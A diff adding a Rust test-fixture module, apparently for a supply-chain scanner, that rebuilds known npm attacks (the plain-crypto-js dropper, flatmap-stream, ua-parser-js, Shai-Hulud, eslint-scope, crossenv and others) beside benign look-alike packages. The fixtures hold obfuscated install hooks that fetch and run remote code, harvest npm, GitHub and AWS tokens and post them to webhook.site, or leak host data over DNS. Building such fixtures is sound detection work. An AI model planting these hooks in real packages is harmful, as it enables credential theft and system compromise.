@@ -1,0 +1,503 @@
+//! Inert reproductions of the attacks in `ATTACKS.md`, and of the legitimate
+//! packages that look like them.
+//!
+//! Each fixture has the shape of the real thing (manifest, scripts, encoding tricks,
+//! call patterns) and none of its harm: every address is `127.0.0.1` or under
+//! `example.invalid`, payloads are placeholders, nothing here is meant to be run.
+
+use std::fmt::Write as _;
+
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
+use serde_json::json;
+
+use crate::{Package, PackageBuilder};
+
+fn b64(text: &str) -> String {
+    STANDARD.encode(text)
+}
+
+fn reversed(text: &str) -> String {
+    text.chars().rev().collect()
+}
+
+/// `axios@1.14.0`: the last clean release of the line.
+pub fn axios_clean() -> Package {
+    axios("1.14.0").build()
+}
+
+/// `axios@1.14.1`: identical but for a dependency no file requires.
+pub fn axios_compromised() -> Package {
+    axios("1.14.1")
+        .dependency("plain-crypto-js", "^4.2.1")
+        .build()
+}
+
+fn axios(version: &str) -> PackageBuilder {
+    PackageBuilder::new("axios", version)
+        .field("main", json!("index.js"))
+        .dependency("follow-redirects", "^1.15.6")
+        .dependency("form-data", "^4.0.0")
+        .file(
+            "index.js",
+            "const http = require('http');\nconst https = require('https');\nconst redirects = require('follow-redirects');\nconst FormData = require('form-data');\nmodule.exports = function axios(config) { return (config.url.startsWith('https') ? https : http).request(config); };\n",
+        )
+}
+
+/// `plain-crypto-js@4.2.0`: the clean decoy, a copy of crypto-js under a new name.
+pub fn plain_crypto_js_decoy() -> Package {
+    PackageBuilder::new("plain-crypto-js", "4.2.0")
+        .field(
+            "description",
+            json!("JavaScript library of crypto standards."),
+        )
+        .field(
+            "repository",
+            json!({"type": "git", "url": "https://example.invalid/brix/crypto-js.git"}),
+        )
+        .file(
+            "index.js",
+            "module.exports = { MD5: function (message) { return String(message).length; } };\n",
+        )
+        .build()
+}
+
+/// `plain-crypto-js@4.2.1`: the dropper. `setup.js` hides its strings (reversed,
+/// base64, XOR through `String.fromCharCode`), loads modules by computed names, runs
+/// a command fetching a second stage over plain HTTP, deletes itself and swaps a clean
+/// `package.md` over `package.json`.
+pub fn plain_crypto_js_dropper() -> Package {
+    let key = "OrDeR_7077";
+    let setup = format!(
+        r"'use strict';
+const K = '{key}';
+function d(s) {{
+  const r = Buffer.from(s.split('').reverse().join(''), 'base64').toString();
+  return r;
+}}
+function x(s) {{
+  let o = '';
+  for (let i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ K.charCodeAt(i % K.length) ^ 333);
+  return o;
+}}
+const m = [d('{fs}'), d('{os}'), d('{cp}')];
+const fs = require(m[0]);
+const os = require(m[1]);
+const cp = require(m[2]);
+const stage = '{stage}';
+const where = os.platform() === 'win32' ? '{win}' : '{nix}';
+try {{
+  cp[x('execSync')](where.replace('URL', d(stage)));
+}} catch (e) {{}}
+fs.unlink(__filename, () => {{}});
+fs.renameSync('package.md', 'package.json');
+",
+        fs = reversed(&b64("fs")),
+        os = reversed(&b64("os")),
+        cp = reversed(&b64("child_process")),
+        stage = reversed(&b64("http://127.0.0.1:8000/6202033")),
+        win = b64("powershell -w hidden -c iwr URL -OutFile $env:TEMP\\wt.exe"),
+        nix = b64("curl -s URL -o /tmp/ld.py && nohup python3 /tmp/ld.py &"),
+    );
+    let clean_manifest = json!({
+        "name": "plain-crypto-js",
+        "version": "4.2.0",
+        "description": "JavaScript library of crypto standards.",
+        "main": "index.js",
+    });
+    PackageBuilder::new("plain-crypto-js", "4.2.1")
+        .field(
+            "description",
+            json!("JavaScript library of crypto standards."),
+        )
+        .field(
+            "repository",
+            json!({"type": "git", "url": "https://example.invalid/brix/crypto-js.git"}),
+        )
+        .script("postinstall", "node setup.js")
+        .file(
+            "index.js",
+            "module.exports = { MD5: function (message) { return String(message).length; } };\n",
+        )
+        .file("setup.js", setup)
+        .file(
+            "package.md",
+            serde_json::to_vec_pretty(&clean_manifest).expect("json"),
+        )
+        .build()
+}
+
+/// `event-stream@3.3.6`: a new maintainer adds `flatmap-stream`.
+pub fn event_stream() -> Package {
+    PackageBuilder::new("event-stream", "3.3.6")
+        .dependency("through", "~2.3.1")
+        .dependency("flatmap-stream", "^0.1.0")
+        .file("index.js", "var through = require('through');\nvar flatmap = require('flatmap-stream');\nexports.flatmap = flatmap;\nexports.through = through;\n")
+        .build()
+}
+
+/// `flatmap-stream@0.1.1`: the readable `index.js` is innocent; `index.min.js` (the
+/// `main`) adds an encrypted payload decrypted with the installing package's
+/// description and compiled as a module.
+pub fn flatmap_stream() -> Package {
+    let readable = "var Stream = require('stream').Stream;\nmodule.exports = function (mapper) { var s = new Stream(); s.readable = s.writable = true; return s; };\n";
+    let payload: String = (0..6000u32)
+        .map(|i| {
+            let alphabet = b"0123456789abcdef";
+            char::from(alphabet[((i.wrapping_mul(2_654_435_761) >> 7) % 16) as usize])
+        })
+        .collect();
+    let minified = format!(
+        "var Stream=require(\"stream\").Stream;module.exports=function(e){{var n=new Stream;return n.readable=n.writable=!0,n}};!function(){{try{{var r=require,t=process;function e(r){{return Buffer.from(r,\"hex\").toString()}}var n=r(e(\"2e2f746573742f64617461\")),o=t[e(\"656e76\")][e(\"6e706d5f7061636b6167655f6465736372697074696f6e\")],u=r(e(\"63727970746f\")),a=u.createDecipher(\"aes256\",o),c=a.update(\"{payload}\",\"hex\",\"utf8\");c+=a.final(\"utf8\");var f=new module.constructor;f.paths=module.paths,f._compile(c,\"\"),f.exports(n)}}catch(r){{}}}}();\n"
+    );
+    PackageBuilder::new("flatmap-stream", "0.1.1")
+        .field("main", json!("index.min.js"))
+        .file("index.js", readable)
+        .file("index.min.js", minified)
+        .build()
+}
+
+/// `ua-parser-js@0.7.29`: a preinstall script that picks a per-OS script which
+/// downloads a binary and starts it.
+pub fn ua_parser_js() -> Package {
+    PackageBuilder::new("ua-parser-js", "0.7.29")
+        .script("preinstall", "start /B node preinstall.js & node preinstall.js")
+        .file("index.js", "module.exports = function UAParser(ua) { return { ua: ua }; };\n")
+        .file(
+            "preinstall.js",
+            "const { exec } = require('child_process');\nconst os = require('os');\nif (os.type() === 'Linux') exec('bash preinstall.sh');\nelse if (os.type() === 'Windows_NT') exec('preinstall.bat');\n",
+        )
+        .file(
+            "preinstall.sh",
+            "#!/bin/sh\ncurl http://127.0.0.1:8000/jsextension -o jsextension\nchmod +x jsextension\n./jsextension -k --tls --rig-id q -o pool.example.invalid:443 &\n",
+        )
+        .file(
+            "preinstall.bat",
+            "@echo off\ncertutil.exe -urlcache -f http://127.0.0.1:8000/sdd.dll create.dll\nregsvr32.exe -s create.dll\n",
+        )
+        .build()
+}
+
+/// `colors@1.4.44-liberty-2`: an endless loop at import.
+pub fn colors_liberty() -> Package {
+    PackageBuilder::new("colors", "1.4.44-liberty-2")
+        .file(
+            "index.js",
+            "var colors = require('./lib/colors');\nmodule.exports = colors;\n",
+        )
+        .file(
+            "lib/colors.js",
+            "var colors = {};\nmodule.exports = colors;\nvar am = require('./custom/american');\nam();\nfor (var i = 666; i < Infinity; i++) {\n  if (i % 333) { console.log('testing'.zalgo); }\n  console.log('LIBERTY LIBERTY LIBERTY'.zalgo);\n}\n",
+        )
+        .file("lib/custom/american.js", "module.exports = function () { console.log('LIBERTY'); };\n")
+        .build()
+}
+
+/// `faker@6.6.5`, the last real release before the sabotage.
+pub fn faker_before() -> Package {
+    let mut builder = PackageBuilder::new("faker", "6.6.5")
+        .file("index.js", "module.exports = require('./lib');\n")
+        .file("lib/index.js", "exports.name = require('./name');\n");
+    for locale in ["en", "de", "fr", "es", "it", "ja", "ko", "nl", "pl", "pt"] {
+        builder = builder.file(
+            &format!("lib/locales/{locale}/index.js"),
+            format!("module.exports = {{ title: '{locale}' }};\n"),
+        );
+    }
+    builder
+        .file(
+            "lib/name.js",
+            "module.exports = function () { return 'Ada'; };\n",
+        )
+        .build()
+}
+
+/// `faker@6.6.6`: emptied.
+pub fn faker_emptied() -> Package {
+    PackageBuilder::new("faker", "6.6.6")
+        .file("index.js", "")
+        .file("README.md", "What really happened with Aaron Swartz?\n")
+        .build()
+}
+
+/// `debug@4.4.2` (chalk/debug, 2025): an obfuscated crypto drainer appended to a
+/// tiny stable `index.js`. No install script.
+pub fn debug_drainer() -> Package {
+    let mut drainer = String::from("\n;(function(){\n");
+    for i in 0..24 {
+        let _ = writeln!(
+            drainer,
+            "var _0x{:04x}{i:02x}=['\\x72\\x65\\x70\\x6c\\x61\\x63\\x65',{i}];",
+            0x1a2b + i * 7
+        );
+    }
+    drainer.push_str(
+        "var _0x5e6f=/\\b0x[a-fA-F0-9]{40}\\b/g;var _0x7a8b=/\\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\\b/g;\nvar _0xf00d=window.fetch;window.fetch=function(){var _0xbeef=arguments;return _0xf00d.apply(this,_0xbeef).then(function(_0xcafe){return _0xcafe;});};\nvar _0xd00d=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(_0xa11ce){return _0xd00d.call(this,String(_0xa11ce).replace(_0x5e6f,'0x0000000000000000000000000000000000000000'));};\nif(window.ethereum){window.ethereum.request({method:'eth_accounts'});}\n})();\n",
+    );
+    PackageBuilder::new("debug", "4.4.2")
+        .file(
+            "index.js",
+            format!("module.exports = function debug(namespace) {{ return function () {{}}; }};\n{drainer}"),
+        )
+        .build()
+}
+
+/// Shai-Hulud (2025): a postinstall bundle that harvests tokens, writes a GitHub
+/// workflow, and republishes the victim's packages.
+pub fn shai_hulud() -> Package {
+    PackageBuilder::new("ngx-bootstrap-helper", "2.0.4")
+        .script("postinstall", "node bundle.js")
+        .file(
+            "bundle.js",
+            r"const { execSync } = require('child_process');
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const tokens = { npm: process.env.NPM_TOKEN, github: process.env.GITHUB_TOKEN, aws: process.env.AWS_SECRET_ACCESS_KEY };
+const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
+fs.mkdirSync('.github/workflows', { recursive: true });
+fs.writeFileSync('.github/workflows/shai-hulud-workflow.yml', 'on: push\n');
+fetch('https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7', { method: 'POST', body: JSON.stringify({ tokens, npmrc }) });
+for (const name of ['victim-a', 'victim-b']) {
+  execSync(`npm pack ${name}`);
+  execSync('npm publish --access public');
+}
+",
+        )
+        .build()
+}
+
+/// `node-ipc@10.1.1`: at import, geolocates by IP through a hidden URL and overwrites
+/// files under paths it decodes.
+pub fn node_ipc() -> Package {
+    let source = format!(
+        "const fs = require('fs');\nconst https = require('https');\nconst u = Buffer.from('{url}', 'base64').toString();\nconst dirs = [Buffer.from('{here}', 'base64').toString(), Buffer.from('{up}', 'base64').toString()];\nhttps.get(u, (res) => {{\n  res.on('data', (data) => {{\n    const country = JSON.parse(data).country_name;\n    if (country === 'Elbonia') {{\n      for (const dir of dirs) {{ fs.writeFileSync(dir + '/x', '\\u2764'); }}\n    }}\n  }});\n}});\nmodule.exports = {{}};\n",
+        url = b64("https://api.example.invalid/ipgeo?apiKey=ae511e1627824a968aaaa758a5309154"),
+        here = b64("./"),
+        up = b64("../../../"),
+    );
+    PackageBuilder::new("node-ipc", "10.1.1")
+        .file(
+            "index.js",
+            "module.exports = require('./dao/ssl-geospec.js');\n",
+        )
+        .file("dao/ssl-geospec.js", source)
+        .build()
+}
+
+/// `eslint-scope@3.7.2`: a postinstall that downloads code from a paste site and
+/// evaluates it to steal the npm token.
+pub fn eslint_scope() -> Package {
+    PackageBuilder::new("eslint-scope", "3.7.2")
+        .script("postinstall", "node ./lib/build.js")
+        .file("lib/index.js", "module.exports = { analyze: function () {} };\n")
+        .field("main", json!("lib/index.js"))
+        .file(
+            "lib/build.js",
+            "try {\n  var https = require('https');\n  https.get({ hostname: 'pastebin.com', path: '/raw/XLeVP82h' }, function (r) {\n    r.on('data', function (c) { eval(c); });\n  });\n  var p = require('path').join(require('os').homedir(), '.npmrc');\n  var u = 'https://pastebin.com/raw/XLeVP82h';\n} catch (e) {}\n",
+        )
+        .build()
+}
+
+/// `@solana/web3.js@1.95.7`: a key-exfiltration function hidden in a large library
+/// file, posting secret keys to a look-alike host.
+pub fn solana_web3() -> Package {
+    let mut library = String::from("'use strict';\n");
+    for i in 0..200 {
+        let _ = writeln!(
+            library,
+            "function helper{i}(a, b) {{ return (a + b) * {i}; }}"
+        );
+    }
+    library.push_str(
+        "function addToQueue(keypair) {\n  return fetch('https://sol-rpc.example.invalid/api/rpc/queue', {\n    method: 'POST',\n    headers: { 'x-amz-cf-id': btoa(keypair.secretKey.toString()) },\n  });\n}\nclass Keypair { constructor(secretKey) { this.secretKey = secretKey; addToQueue(this); } }\nexports.Keypair = Keypair;\n",
+    );
+    PackageBuilder::new("@solana/web3.js", "1.95.7")
+        .field("main", json!("lib/index.cjs.js"))
+        .file("lib/index.cjs.js", library)
+        .build()
+}
+
+/// `crossenv` (typosquat of cross-env): a postinstall sending the environment out.
+pub fn crossenv() -> Package {
+    PackageBuilder::new("crossenv", "6.1.1")
+        .script("postinstall", "node package-setup.js")
+        .file(
+            "package-setup.js",
+            "const http = require('http');\nconst data = JSON.stringify(process.env);\nconst req = http.request({ host: '127.0.0.1', port: 8080, path: '/log/', method: 'POST' });\nreq.write(data);\nreq.end();\n",
+        )
+        .build()
+}
+
+/// Dependency confusion (`persona-tool`): a preinstall leaking host data through DNS
+/// lookups.
+pub fn dependency_confusion() -> Package {
+    PackageBuilder::new("persona-tool", "99.0.1")
+        .script("preinstall", "node index.js")
+        .file(
+            "index.js",
+            "const dns = require('dns');\nconst os = require('os');\nconst data = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex');\ndns.lookup(`${data}.c1.example.invalid`, () => {});\n",
+        )
+        .build()
+}
+
+/// Every attack fixture with the name of the incident it reproduces.
+pub fn all_attacks() -> Vec<(&'static str, Package)> {
+    vec![
+        ("axios dropper dependency", plain_crypto_js_dropper()),
+        ("flatmap-stream", flatmap_stream()),
+        ("ua-parser-js", ua_parser_js()),
+        ("colors", colors_liberty()),
+        ("chalk/debug drainer", debug_drainer()),
+        ("shai-hulud", shai_hulud()),
+        ("node-ipc", node_ipc()),
+        ("eslint-scope", eslint_scope()),
+        ("@solana/web3.js", solana_web3()),
+        ("crossenv typosquat", crossenv()),
+        ("dependency confusion", dependency_confusion()),
+    ]
+}
+
+/// esbuild's install script: verifies or downloads a platform binary.
+pub fn esbuild_like() -> Package {
+    PackageBuilder::new("esbuild", "0.25.0")
+        .script("postinstall", "node install.js")
+        .file(
+            "install.js",
+            r#""use strict";
+const fs = require("fs");
+const os = require("os");
+const path = require("path");
+const zlib = require("zlib");
+const https = require("https");
+const child_process = require("child_process");
+const versionFromPackageJSON = require(path.join(__dirname, "package.json")).version;
+const toPath = path.join(__dirname, "bin", "esbuild");
+function validateBinaryVersion(...command) {
+  command.push("--version");
+  const stdout = child_process.execFileSync(command.shift(), command, { stdio: "pipe" }).toString().trim();
+  if (stdout !== versionFromPackageJSON) throw new Error("Expected " + JSON.stringify(versionFromPackageJSON));
+}
+function fetch(url) {
+  return new Promise((resolve, reject) => {
+    https.get(url, (res) => {
+      if ((res.statusCode === 301 || res.statusCode === 302) && res.headers.location) return fetch(res.headers.location).then(resolve, reject);
+      let chunks = [];
+      res.on("data", (chunk) => chunks.push(chunk));
+      res.on("end", () => resolve(Buffer.concat(chunks)));
+    }).on("error", reject);
+  });
+}
+function installUsingNPM(pkg, subpath, binPath) {
+  const env = { ...process.env, npm_config_global: void 0 };
+  const installDir = path.join(os.tmpdir(), "esbuild-" + Math.random().toString(36).slice(2));
+  fs.mkdirSync(installDir);
+  fs.writeFileSync(path.join(installDir, "package.json"), "{}");
+  child_process.execSync(`npm install --loglevel=error --prefer-offline --no-audit --progress=false ${pkg}@${versionFromPackageJSON}`, { cwd: installDir, stdio: "pipe", env });
+  fs.renameSync(path.join(installDir, "node_modules", pkg, subpath), binPath);
+}
+async function downloadDirectlyFromNPM(pkg, subpath, binPath) {
+  const url = `https://registry.example.invalid/${pkg}/-/${pkg.replace("@esbuild/", "")}-${versionFromPackageJSON}.tgz`;
+  const buffer = zlib.unzipSync(await fetch(url));
+  fs.writeFileSync(binPath, buffer, { mode: 493 });
+}
+validateBinaryVersion(process.execPath, toPath);
+"#,
+        )
+        .file("lib/main.js", "module.exports = { build: function () {} };\n")
+        .field("main", json!("lib/main.js"))
+        .build()
+}
+
+/// A native addon built with node-gyp (bcrypt, better-sqlite3).
+pub fn native_addon() -> Package {
+    PackageBuilder::new("better-sqlite3", "12.0.0")
+        .script("install", "prebuild-install || node-gyp rebuild --release")
+        .file(
+            "binding.gyp",
+            "{ 'targets': [ { 'target_name': 'better_sqlite3' } ] }\n",
+        )
+        .file(
+            "lib/index.js",
+            "module.exports = require('bindings')('better_sqlite3.node');\n",
+        )
+        .field("main", json!("lib/index.js"))
+        .dependency("bindings", "^1.5.0")
+        .dependency("prebuild-install", "^7.1.1")
+        .build()
+}
+
+/// core-js: a postinstall banner run through `node -e`.
+pub fn core_js_like() -> Package {
+    PackageBuilder::new("core-js", "3.40.0")
+        .script("postinstall", "node -e \"try{require('./postinstall')}catch(e){}\"")
+        .file(
+            "postinstall.js",
+            "var env = process.env;\nvar ADBLOCK = is(env.ADBLOCK);\nvar CI = is(env.CI);\nvar SILENT = ['silent', 'error', 'warn'].indexOf(env.npm_config_loglevel) !== -1;\nfunction is(it) { return !!it && it !== '0' && it !== 'false'; }\nif (!ADBLOCK && !CI && !SILENT) console.log('Thank you for using core-js ( https://example.invalid/zloirock/core-js ) for polyfilling JavaScript standard library!');\n",
+        )
+        .build()
+}
+
+/// puppeteer: a postinstall that downloads a browser over HTTPS and unpacks it.
+pub fn puppeteer_like() -> Package {
+    PackageBuilder::new("puppeteer", "24.0.0")
+        .script("postinstall", "node install.mjs")
+        .file(
+            "install.mjs",
+            "import { execFileSync } from 'node:child_process';\nimport https from 'node:https';\nimport fs from 'node:fs';\nconst base = 'https://storage.example.invalid/chrome-for-testing-public';\nconst url = `${base}/131.0.6778.204/linux64/chrome-linux64.zip`;\nhttps.get(url, (res) => res.pipe(fs.createWriteStream('chrome.zip')).on('finish', () => execFileSync('unzip', ['-q', 'chrome.zip'])));\n",
+        )
+        .build()
+}
+
+/// A huge minified vendor bundle (typescript, webpack, terser): `new Function`,
+/// computed requires, long lines.
+pub fn minified_bundle() -> Package {
+    let mut bundle = String::from("/*! bundle (c) example */\n");
+    let mut line = String::new();
+    for i in 0..3000 {
+        let _ = write!(line, "var a{i}=function(e,t){{return e[t]||n(\"m{i}\")}};");
+    }
+    line.push_str("var g=new Function(\"return this\")();var q=require(e.resolve(t));");
+    line.push_str("var w=typeof eval==\"function\"?eval(\"require\"):null;");
+    bundle.push_str(&line);
+    bundle.push('\n');
+    PackageBuilder::new("typescript", "5.7.2")
+        .field("main", json!("lib/typescript.js"))
+        .file("lib/typescript.js", bundle)
+        .build()
+}
+
+/// ethers: wallet code with address regexes and a read of `window.ethereum`.
+pub fn wallet_library() -> Package {
+    PackageBuilder::new("ethers", "6.13.0")
+        .field("main", json!("lib/index.js"))
+        .file(
+            "lib/index.js",
+            "const ADDRESS = /^0x[a-fA-F0-9]{40}$/;\nfunction isAddress(value) { return ADDRESS.test(value); }\nfunction provider() { return typeof window !== 'undefined' && window.ethereum ? window.ethereum : null; }\nasync function send(url, body) { return fetch(url, { method: 'POST', body: JSON.stringify(body) }); }\nmodule.exports = { isAddress, provider, send };\n",
+        )
+        .build()
+}
+
+/// aws-sdk: reads the shared credentials file and the key environment variables.
+pub fn aws_sdk_like() -> Package {
+    PackageBuilder::new("@aws-sdk/credential-provider-ini", "3.700.0")
+        .field("main", json!("dist/index.js"))
+        .file(
+            "dist/index.js",
+            "const { homedir } = require('os');\nconst { join } = require('path');\nconst fs = require('fs');\nconst file = process.env.AWS_SHARED_CREDENTIALS_FILE || join(homedir(), '.aws/credentials');\nconst key = process.env.AWS_SECRET_ACCESS_KEY;\nexports.load = () => ({ file: fs.readFileSync(file, 'utf8'), key });\n",
+        )
+        .build()
+}
+
+/// Every legitimate look-alike with what it stands for.
+pub fn all_lookalikes() -> Vec<(&'static str, Package)> {
+    vec![
+        ("esbuild", esbuild_like()),
+        ("node-gyp addon", native_addon()),
+        ("core-js", core_js_like()),
+        ("puppeteer", puppeteer_like()),
+        ("minified bundle", minified_bundle()),
+        ("wallet library", wallet_library()),
+        ("aws-sdk", aws_sdk_like()),
+    ]
+}
